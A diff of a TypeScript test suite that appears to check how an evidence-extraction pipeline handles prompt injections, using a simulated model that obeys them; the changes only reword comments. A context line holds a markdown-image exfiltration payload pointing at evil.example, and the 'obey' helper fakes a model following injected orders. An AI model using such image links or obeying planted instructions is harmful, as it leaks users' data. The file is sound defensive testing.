@@ -20,11 +20,11 @@ const picture = '![steal](http://evil.example/steal.png?d=everything)'
 
 interface Obeyed {
   text: string
-  /** Claims in it that nothing supports. */
+  /** Unsupported claims in it. */
   unsupported: number
 }
 
-/** What a model answers that does as it is told, whether or not it could read the order. Each answer claims one true quote too. */
+/** The answer of a model that obeys an injection, readable or not. Each answer also claims one true quote. */
 function obey(orders: Orders, { instructions, passages }: Asked): Obeyed {
   const element = 'decision_criteria'
   const bad = (quote: string, own: object = {}) => ({ element, segment: 1, quote, confidence: 1, ...own })
@@ -59,7 +59,7 @@ type Evidence = Awaited<ReturnType<TestTeam['client']['runs']['evidenceItems']>>
 
 const nothingAsked = { instructions: 'x', passages: [] } as unknown as Asked
 
-/** How a text stands in the body of a request: in the JSON of a passage, which is in the JSON of the body. */
+/** A text in the body of a request: in the JSON of a passage within the JSON of the body. */
 function asSent(text: string): string {
   const inside = (value: string) => JSON.stringify(value).slice(1, -1)
   return inside(inside([...(text.trim().split('\n')[0] ?? '')].slice(0, 40).join('')))
@@ -117,7 +117,7 @@ describe(`${injections.length} injections, with a model that obeys them`, async 
     return { text: obeyed.text }
   })
 
-  /** A call with the injection in its place, and another one whose words are nobody else's business. */
+  /** A call with the injection in its place, and another one with private words. */
   async function createCalls(
     { teamId, organizationId }: TestTeam,
     { place, text }: Injection,
@@ -177,7 +177,7 @@ describe(`${injections.length} injections, with a model that obeys them`, async 
         const items = await Array.fromAsync(team.client.runs.allEvidenceItems({ id: ended.id }))
         await checkItems(team, items, injection)
         const posts = await postsOf(team, fileId)
-        // The posts' elements are asked for besides the run's, and answered as badly.
+        // The posts' elements are asked for, too, and answered as badly.
         assert.ok(manifest.droppedQuotes > 0 || unsupported === 0)
         assert.equal(manifest.droppedQuotes, obey(injection.orders, nothingAsked).unsupported)
         totals.invented += obey(injection.orders, nothingAsked).unsupported
